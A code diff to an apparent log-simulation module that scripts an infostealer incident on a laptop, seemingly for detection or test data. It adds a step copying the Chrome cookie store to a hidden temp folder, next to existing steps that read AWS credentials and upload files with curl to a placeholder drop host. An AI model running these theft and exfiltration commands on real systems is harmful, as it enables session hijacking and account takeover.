@@ -14,11 +14,13 @@ export interface HostStory {
   readonly host: Host;
   readonly told: readonly { readonly id: string; readonly ms: number; readonly what: string }[];
   readonly reads: readonly { readonly id: string; readonly ms: number }[];
+  /** Those that copied the cookies of the browser. */
+  readonly copies: readonly { readonly id: string; readonly ms: number }[];
 }
 
 /**
  * A viewer for labels that is none. At 13:37 UTC the owner of the key opens it; it asks for the password, reads the file of the keys, the settings of kubectl and the cookies of the browser, and sends them away. What it left behind
- * reads the file of the keys again at 15:12, when the key of the day stands in it.
+ * reads the file of the keys again at 15:12, when the key of the day stands in it, and copies the cookies, among which is the session of the day.
  */
 export function stealerDay(owner: Person, dayMs: number, seed: number, log: HostLog): HostStory {
   const host = laptopOf(owner)!;
@@ -48,6 +50,7 @@ export function stealerDay(owner: Person, dayMs: number, seed: number, log: Host
   run(3600 + 51 * 60 + 30, 'owner', '/opt/homebrew/bin/saml2aws', ['saml2aws', 'login', '-a', 'freight'], shell);
   run(3600 + 54 * 60, 'owner', '/opt/homebrew/bin/kubectl', ['kubectl', 'get', 'pods', '-n', 'freight'], shell);
   run(2 * 3600 + 12 * 60 + 30, 'key-file', '/bin/cat', ['cat', `${home}/.aws/credentials`], agent, false);
+  run(2 * 3600 + 12 * 60 + 31, 'cookies', '/bin/cp', ['cp', `${home}/Library/Application Support/Google/Chrome/Default/Cookies`, '/tmp/.fl/c'], agent);
   run(2 * 3600 + 12 * 60 + 33, 'sent', '/usr/bin/curl', ['curl', '-s', '-F', 'f=@/tmp/.fl/a', `${DROP}/u`], agent);
-  return { host, told, reads };
+  return { host, told, reads, copies: told.filter((one) => one.what === 'cookies') };
 }
